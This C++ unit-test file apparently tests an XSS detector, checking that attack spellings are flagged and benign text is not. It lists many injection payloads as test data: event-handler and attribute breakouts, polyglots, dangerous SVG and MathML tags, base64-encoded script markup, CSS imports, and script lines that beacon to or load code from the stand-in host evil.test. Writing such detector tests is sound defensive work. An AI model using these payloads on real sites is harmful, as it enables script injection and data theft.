// Markup, CSS and script grammars beyond tags with handlers: each family has
// attack spellings that must be reported and benign neighbours that must not.
#include <string>
#include <string_view>

#include "gtest/gtest.h"
#include "runtime/detect/detector.h"
#include "tests/unit/detect/detect_test_support.h"

namespace fnguard::detect {
namespace {

using testing::Detects;

struct GrammarCase {
  std::string_view value;
  std::string_view rule;
};

void ExpectDetected(const GrammarCase& c) {
  Match m;
  EXPECT_TRUE(Detects(XssDetector(), c.value, &m)) << c.value;
  EXPECT_EQ(m.rule_id, c.rule) << c.value;
  EXPECT_GE(m.score, 60) << c.value;
  EXPECT_FALSE(m.reason.empty()) << c.value;
}

void ExpectClean(std::string_view v) {
  Match m;
  EXPECT_FALSE(Detects(XssDetector(), v, &m)) << v << " -> " << m.rule_id << " " << m.reason;
}

// Inside a tag a '<' only starts another attribute name: the handler after
// it still belongs to the tag.
TEST(XssGrammarTest, AngleBracketInsideATagDoesNotEndIt) {
  ExpectDetected({"<span title=a </onmouseenter=run()>", "xss.event_handler"});
  ExpectDetected({"<p <b onclick=go(2)>", "xss.event_handler"});
  ExpectDetected({"<i x=1 <<//ondblclick=go()>", "xss.event_handler"});
  ExpectClean("<p>a <b>bold</b> and <i>c</i></p>");
  ExpectClean("x < y </p>");
}

// Several contexts closed at once: quotes of two kinds, "-->", "]]>".
TEST(XssGrammarTest, ContextClosingPolyglots) {
  ExpectDetected({"'\"-->]]><p>", "xss.js_breakout"});
  ExpectDetected({"z]]>`'-->", "xss.js_breakout"});
  ExpectDetected({"--> ]]>", "xss.js_breakout"});
  ExpectClean("<b>done</b><!-- note --></p>");
  ExpectClean("He said \"'quoted'\" loudly");
  ExpectClean("a --> b");
  ExpectClean("array[a[i]]> 3");
}

// A quote and '>' end the attribute and tag the value sits in, then markup.
TEST(XssGrammarTest, QuoteThenTagCloseThenMarkup) {
  ExpectDetected({"'><u>hello</u>", "xss.attribute_breakout"});
  ExpectDetected({"\"/><hr>", "xss.attribute_breakout"});
  ExpectDetected({" \"//evil.test/\">more</a>", "xss.attribute_breakout"});
  // Page text cut in the middle of a tag does not open with the quote.
  ExpectClean("item_7\">Shop</a>");
  ExpectClean("\"Hello\" <b>world</b>");
  ExpectClean("\"quoted\" and then 3 > 2");
}

TEST(XssGrammarTest, ForeignOnlyAndXsltElements) {
  ExpectDetected({"<ellipse rx=3 ry=2/><a href=//evil.test>", "xss.dangerous_tag"});
  ExpectDetected({"<ellipse rx=3 ry=2 style=x/>", "xss.dangerous_tag"});
  ExpectDetected({"<foreignObject width=9>", "xss.dangerous_tag"});
  ExpectDetected({"<feTurbulence baseFrequency=1>", "xss.dangerous_tag"});
  ExpectDetected({"<math><mglyph>", "xss.dangerous_tag"});
  ExpectDetected({"<value-of select=\"/a/b\"/>", "xss.dangerous_tag"});
  ExpectDetected({"<template match=\"node()\">", "xss.dangerous_tag"});
  // Usage strings and HTML's own <template> stay clean.
  ExpectClean("usage: tool <path> <text> [<image>]");
  ExpectClean("<template id=row><td>1</td></template>");
  ExpectClean("Draw a <rectangle> here");
}

TEST(XssGrammarTest, DrawingsAloneAreInert) {
  // Icons and formulas pasted into rich text: shapes, text and presentation
  // attributes, closed, beside ordinary text markup.
  ExpectClean("<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 16 16\"><rect x=\"1\" "
              "y=\"1\" width=\"14\" height=\"14\" rx=\"2\" fill=\"none\"/></svg>");
  ExpectClean("<p>Area: <math><mi>&pi;</mi><msup><mi>r</mi><mn>2</mn></msup></math></p>");
  ExpectClean("<span class=icon><svg width=8 height=8><circle cx=4 cy=4 r=3/></svg></span> ok");
  // Left open, beside another element or an attribute that is not a
  // presentation one, behind a comment: what the element switches on counts.
  ExpectDetected({"<svg width=8 height=8><circle cx=4 cy=4 r=3/>", "xss.dangerous_tag"});
  ExpectDetected({"<svg><circle r=3/></svg><img src=x>", "xss.dangerous_tag"});
  ExpectDetected({"<svg><rect href=\"//evil.test/\"/></svg>", "xss.dangerous_tag"});
  ExpectDetected({"<svg><!--<rect/>--></svg>", "xss.dangerous_tag"});
  ExpectDetected({"<math><mtext><table><mglyph><style>x</style></mglyph></table></mtext></math>",
                  "xss.dangerous_tag"});
  ExpectDetected({"<div xmlns=\"http://www.w3.org/2000/svg\"><rect/></div>", "xss.dangerous_tag"});
}

TEST(XssGrammarTest, OutlookConditionalComments) {
  ExpectClean("<!--[if mso]><table><tr><td>Hi</td></tr></table><![endif]-->");
  ExpectClean("<!--[if gte mso 9]><p>x</p><![endif]-->");
  ExpectDetected({"<!--[if IE]><b>x</b><![endif]-->", "xss.dangerous_tag"});
  ExpectDetected({"<![endif]--><b>x</b>", "xss.dangerous_tag"});
}

TEST(XssGrammarTest, InjectedFormControls) {
  ExpectDetected({"<input type=\"hidden\" name=\"t\" value=\"1\">", "xss.dangerous_tag"});
  ExpectDetected({"<input name=pw type=PASSWORD>", "xss.dangerous_tag"});
  ExpectDetected({"<button formaction=\"//evil.test/c\">go</button>", "xss.dangerous_tag"});
  ExpectDetected({"<input dirname=\"q.dir\" name=q>", "xss.dangerous_tag"});
  ExpectClean("<input type=\"text\" name=\"q\">");
  ExpectClean("<button>OK</button>");
  ExpectClean("type=password");
}

TEST(XssGrammarTest, NamespaceDeclarationsOutsideATag) {
  ExpectDetected({" xmlns:m=\"http://www.w3.org/1998/Math/MathML\">", "xss.dangerous_tag"});
  ExpectDetected({"xmlns = 'http://www.w3.org/2000/svg'", "xss.dangerous_tag"});
  ExpectDetected({"<use xmlns:l=\"http://www.w3.org/1999/xlink\">", "xss.dangerous_tag"});
  ExpectClean("xmlns=\"urn:example:books\"");
  ExpectClean("see http://www.w3.org/2000/svg for the spec");
}

// Base64 bodies that decode to markup that runs script.
TEST(XssGrammarTest, Base64Markup) {
  // "<img src=x onerror=go()>" under a media type that claims to be harmless.
  ExpectDetected({"data:application/octet-stream;base64,PGltZyBzcmM9eCBvbmVycm9yPWdvKCk+",
                  "xss.js_url"});
  ExpectDetected({"<a href=\"data:x-a/b;\nbase64\n,PGltZyBzcmM9eCBvbmVycm9yPWdvKCk+\">x</a>",
                  "xss.js_url"});
  // "<svg onload=run(7)>", padded.
  ExpectDetected({"PHN2ZyBvbmxvYWQ9cnVuKDcpPg==", "xss.encoded_markup"});
  ExpectDetected({"x=PHN2ZyBvbmxvYWQ9cnVuKDcpPg==&y=1", "xss.encoded_markup"});
  // "<p>hello there!</p>" and an XML prolog: markup, but nothing runs.
  ExpectClean("PHA+aGVsbG8gdGhlcmUhPC9wPg==");
  // "<html><body>Hello</body></html>": a document, no script.
  ExpectClean("PGh0bWw+PGJvZHk+SGVsbG88L2JvZHk+PC9odG1sPg==");
  ExpectClean("PD94bWwgdmVyc2lvbj0iMS4wIj8+PGEvPg==");
  ExpectClean("data:application/pdf;base64,PHA+aGVsbG8gdGhlcmUhPC9wPg==");
  ExpectClean("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB=");
}

TEST(XssGrammarTest, StyleSheetRulesThatLoad) {
  ExpectDetected({"@import url(//evil.test/a.css);", "xss.css_expression"});
  ExpectDetected({"@IMPORT 'http://evil.test/b.css';", "xss.css_expression"});
  ExpectDetected({"p{color:red;background-image: url(//evil.test/p)}", "xss.css_expression"});
  ExpectDetected({"@font-face { font-family: z; src: url(//evil.test/f.woff) }",
                  "xss.css_expression"});
  ExpectClean("{\"bg\":\"url(x)\",\"n\":1}");
  ExpectClean("p { color: red; }");
  ExpectClean("@import is a keyword; see url (docs)");
  ExpectClean("@importer: please check the url(s) I sent");
}

TEST(XssGrammarTest, DtdDeclarationTail) {
  ExpectDetected({"  lang CDATA #IMPLIED >", "xss.dangerous_tag"});
  ExpectClean("issue #required-fields > see docs");
  ExpectClean("#1 > #2");
}

// Script statements without a quote to break out of.
TEST(XssGrammarTest, ScriptStatements) {
  ExpectDetected({"[3].map(confirm)", "xss.js_breakout"});
  ExpectDetected({"p=prompt;p(1)", "xss.js_breakout"});
  ExpectDetected({"q = eval , q(name)", "xss.js_breakout"});
  ExpectDetected({"navigator.sendBeacon('//evil.test', 1)", "xss.js_breakout"});
  ExpectDetected({"window.open('//evil.test/p')", "xss.js_breakout"});
  ExpectDetected({"top.location.href = '//evil.test/';", "xss.js_breakout"});
  ExpectDetected({"location=`//evil.test/x`;", "xss.js_breakout"});
  ExpectDetected({"$('#f').submit()", "xss.js_breakout"});
  ExpectDetected({"Reflect.apply(prompt, 0, [2])", "xss.js_breakout"});
  ExpectDetected({"throw onerror=eval,'go(3)'", "xss.js_breakout"});
  ExpectDetected({"confirm?.(4)", "xss.js_breakout"});
  ExpectDetected({"Function(\"go\"+\"(5)\")()", "xss.js_breakout"});
  ExpectDetected({"[].map.constructor('go(6)')()", "xss.js_breakout"});
  ExpectDetected({"import(`//evil.test/m.js`)", "xss.js_breakout"});
  ExpectDetected({"self.location=\"//evil.test/\"", "xss.js_breakout"});
  ExpectClean("The bell (alert) icon");
  ExpectClean("onerror=retry&onload=fast");
  ExpectClean("I set location = \"Berlin\"; then left");
  ExpectClean("attached the window.open(...) notes");
  ExpectDetected({"onerror=go(1)&x=2", "xss.attribute_breakout"});
  ExpectClean("onboarding=alert,email");
  ExpectClean("user.location='Paris'");
  ExpectClean("the import (tariff) rules");
  ExpectClean("levels: info,warning,alert");
  ExpectClean("level=alert&x=1");
  ExpectClean("tags=alert,urgent");
  ExpectClean("window.open() returns null");
  ExpectClean("location=Paris");
  ExpectClean("location = \"Paris\"");
  ExpectClean("history.length is 3");
  ExpectClean("costs $(5) per unit");
}

// Netscape's JavaScript entity needs an expression; a generated password
// with "&{" in it is not one.
TEST(XssGrammarTest, JavaScriptEntityNeedsAnExpression) {
  ExpectDetected({"<br size=\"&{go(1)}\">", "xss.js_breakout"});
  ExpectDetected({"&{x=1};", "xss.js_breakout"});
  ExpectDetected({"\"<i>=&{()}", "xss.js_breakout"});
  ExpectClean("aB&{x<9)Q1");
  ExpectClean("k&{r)Z&h;6Wq>m$`Tx");
  ExpectClean("T(Ab&{s;Z?f?zu]");
  ExpectClean("Pq&{}x=9(");
}

// A host spelled as encoded numbers stays encoded with tabs in it.
TEST(XssGrammarTest, EncodedIpHostWithIgnorableBytes) {
  ExpectDetected({"<a href=\"ht\ttp://0x7f.0\t0.0x0.01/\">x</a>", "xss.js_url"});
}

}  // namespace
}  // namespace fnguard::detect

namespace fnguard::detect {
namespace {

// The fragment scans stay linear on values made of their own lead-ins.
TEST(XssGrammarTest, RepeatedLeadInsFinish) {
  const std::string_view kUnits[] = {
      "'>", "-->", "]]>'\"", "#required", "xmlns:a=", "xmlns='http://www.w3.org/2000/svg ",
      "PHN2ZyBvbmxvYWQ9cnVuKDcpPg==", "PHN2ZyBvbmxvYWQ9cnVu", "data:a;base64,PHN2Zy",
      "@import ", "{a:b url", "$('", "location='", "a=alert,", "window.x(", "&{a(",
      "(confirm", "<x </o"};
  for (std::string_view unit : kUnits) {
    std::string big;
    while (big.size() < (1u << 20)) big += unit;
    Match m;
    Detects(XssDetector(), big, &m);
  }
  // A finding past a megabyte of lead-ins is still found.
  std::string tail;
  while (tail.size() < (1u << 20)) tail += "xmlns:a=";
  tail += " \"'-->]]>";
  Match m;
  EXPECT_TRUE(Detects(XssDetector(), tail, &m));
}

}  // namespace
}  // namespace fnguard::detect

namespace fnguard::detect {
namespace {

// Values on the edge of the necessary conditions of the scans above: the
// only trigger byte is the one each condition needs.
TEST(XssGrammarTest, NecessaryConditionEdges) {
  // '>' alone (no '<', ':', '=', '(', '`', '{'): closers and DTD tails.
  ExpectDetected({"-->]]>", "xss.js_breakout"});
  ExpectDetected({"x CDATA #REQUIRED>", "xss.dangerous_tag"});
  // '=' without '(': a sink made a handler, padded base64.
  ExpectDetected({"throw onerror=confirm,1", "xss.js_breakout"});
  ExpectDetected({"PHN2ZyBvbmxvYWQ9cnVuKDcpPg==", "xss.encoded_markup"});
  // Past many '=' that lead nowhere.
  std::string many;
  for (int i = 0; i < 300; ++i) many += "k=v&";
  ExpectDetected({many + "b=PHN2ZyBvbmxvYWQ9cnVuKDcpPg==", "xss.encoded_markup"});
  ExpectDetected({many + " xmlns:s='http://www.w3.org/2000/svg'", "xss.dangerous_tag"});
  // Past many '$' and '&' candidates.
  std::string dollars;
  for (int i = 0; i < 300; ++i) dollars += "$1 & ";
  ExpectDetected({dollars + "$(\".x\").click()", "xss.js_breakout"});
  ExpectDetected({dollars + "&{go(1)}", "xss.js_breakout"});
}

}  // namespace
}  // namespace fnguard::detect
